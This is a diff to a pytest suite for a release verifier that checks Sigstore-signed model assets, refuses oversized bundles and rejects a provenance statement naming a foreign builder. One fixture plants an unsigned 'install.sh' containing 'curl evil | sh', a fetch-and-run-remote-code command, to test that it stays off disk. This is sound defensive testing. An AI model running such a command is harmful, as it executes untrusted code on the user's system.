@@ -24,7 +24,18 @@ from release.checks import verify_release
 from release.errors import VerificationFailed
 from release.github import GitHubClient
 from tests.conftest import GITHUB_TOKEN
-from tests.helpers import RELEASE_IDENTITY, ROOT, pins_file, run_cli, signer_for
+from tests.helpers import (
+    LICENCE,
+    MANIFEST,
+    NOTICE,
+    ONNX_BUNDLE,
+    PROVENANCE,
+    RELEASE_IDENTITY,
+    ROOT,
+    pins_file,
+    run_cli,
+    signer_for,
+)
 from tests.release.test_trust_boundary import (
     REPO,
     TAG,
@@ -98,14 +109,12 @@ def test_attach_names_the_pin_that_does_not_hold(github, signed, instance, pins)
 
 
 def test_an_unsigned_notice_stays_on_the_server(github, published, trust_config, pristine, operator, tmp_path):
-    _add_asset(
-        github, "u2netp_mirror_v1.NOTICE", b"May only be used under the terms at https://evil.invalid\n", tmp_path
-    )
+    _add_asset(github, NOTICE, b"May only be used under the terms at https://evil.invalid\n", tmp_path)
     _add_asset(github, "install.sh", b"curl evil | sh\n", tmp_path)
     result = verify_download(operator, github, trust_config, pristine)
     assert result.returncode == 0, result.stderr
-    assert "left on the server, not part of the signed release: install.sh, u2netp_mirror_v1.NOTICE" in result.stdout
-    assert "u2netp_mirror_v1.NOTICE" not in tree(operator.dist)
+    assert f"left on the server, not part of the signed release: install.sh, {NOTICE}" in result.stdout
+    assert NOTICE not in tree(operator.dist)
     assert sorted(tree(operator.dist)) == sorted(path.name for path in published.iterdir())
 
 
@@ -123,13 +132,13 @@ def test_no_provenance_leaves_the_provenance_on_the_server(github, published, tr
 def test_a_directory_in_the_way_changes_nothing(github, published, trust_config, pristine, operator):
     first = verify_download(operator, github, trust_config, pristine)
     assert first.returncode == 0, first.stderr
-    (operator.dist / "u2netp_mirror_v1.LICENSE").unlink()
-    (operator.dist / "u2netp_mirror_v1.LICENSE").mkdir()
-    (operator.dist / "u2netp_mirror_v1.NOTICE").write_text("stale, from an older release\n")
+    (operator.dist / LICENCE).unlink()
+    (operator.dist / LICENCE).mkdir()
+    (operator.dist / NOTICE).write_text("stale, from an older release\n")
     before = tree(operator.dist)
     requests_before = len(github.requests)
     result = verify_download(operator, github, trust_config, pristine)
-    assert_one_line_failure(result, "u2netp_mirror_v1.LICENSE: is a directory or a link", "nothing was downloaded")
+    assert_one_line_failure(result, f"{LICENCE}: is a directory or a link", "nothing was downloaded")
     assert tree(operator.dist) == before
     assert len(github.requests) == requests_before
 
@@ -138,7 +147,7 @@ def test_a_mount_point_as_dist_works(github, published, trust_config, pristine, 
     # A container volume: dist is the root of its own file system.  Staging beside it failed
     # with "Invalid cross-device link" after downloading everything.
     operator.dist.mkdir()
-    (operator.dist / "u2netp_mirror_v1.NOTICE").write_text("stale\n")
+    (operator.dist / NOTICE).write_text("stale\n")
     from tests.release.test_trust_boundary import cli_env
 
     env = cli_env(github, pristine)
@@ -182,21 +191,21 @@ def test_a_server_trickling_one_byte_a_second_is_cut_off(github, published, trus
 
 def test_a_huge_bundle_is_refused_before_it_is_downloaded(github, published, trust_config, pristine, operator):
     (release,) = github.releases.values()
-    bundle = next(a for a in release.assets.values() if a.name == "u2netp_mirror_v1.onnx.sigstore.json")
+    bundle = next(a for a in release.assets.values() if a.name == ONNX_BUNDLE)
     with bundle.path.open("ab") as stream:
         stream.truncate(600 << 20)  # a sparse 600 MiB "bundle"
     bundle.size = 600 << 20
     bundle.digest = None
     served_before = len(github.requests)
     result = verify_download(operator, github, trust_config, pristine)
-    assert_one_line_failure(result, "u2netp_mirror_v1.onnx.sigstore.json: 629,145,600 bytes announced", "refusing")
+    assert_one_line_failure(result, f"{ONNX_BUNDLE}: 629,145,600 bytes announced", "refusing")
     assert not any("/download/" in path for _, path in github.requests[served_before:])
     assert tree(operator.dist) == {}
     assert sorted(tree(operator.root)) == []
 
 
 def test_a_bundle_in_dist_is_read_with_a_cap(signed, instance, pins):
-    bundle = signed / "u2netp_mirror_v1.onnx.sigstore.json"
+    bundle = signed / ONNX_BUNDLE
     with bundle.open("ab") as stream:
         stream.truncate(64 << 20)
     with pytest.raises(VerificationFailed, match=r"over 1,024 KiB; not a Sigstore bundle"):
@@ -221,7 +230,7 @@ def test_a_statement_naming_another_workflow_as_builder_is_refused(signed, insta
 
     from release.attestation import PREDICATE_TYPE, predicate
 
-    manifest = json.loads((signed / "u2netp_mirror_v1.manifest.json").read_text())
+    manifest = json.loads((signed / MANIFEST).read_text())
     actions = {
         "GITHUB_ACTIONS": "true",
         "GITHUB_WORKFLOW_REF": "mallory/elsewhere/.github/workflows/release.yml@refs/tags/u2netp-mirror-v1.0.0",
@@ -241,7 +250,7 @@ def test_a_statement_naming_another_workflow_as_builder_is_refused(signed, insta
         IdentityToken(sigstore_stack.token(RELEASE_IDENTITY))
     ) as signer:
         bundle = signer.sign_dsse(statement)
-    (signed / "u2netp_mirror_v1.provenance.sigstore.json").write_text(bundle.to_json())
+    (signed / PROVENANCE).write_text(bundle.to_json())
     with pytest.raises(VerificationFailed, match=r"names the builder 'https://github\.com/mallory/elsewhere/"):
         verify_release(signed, signer_for(), instance, pins)
 
@@ -249,7 +258,7 @@ def test_a_statement_naming_another_workflow_as_builder_is_refused(signed, insta
 def dsse_payload(dist: Path) -> bytes:
     import base64
 
-    bundle = json.loads((dist / "u2netp_mirror_v1.provenance.sigstore.json").read_text())
+    bundle = json.loads((dist / PROVENANCE).read_text())
     return base64.b64decode(bundle["dsseEnvelope"]["payload"])
 
 
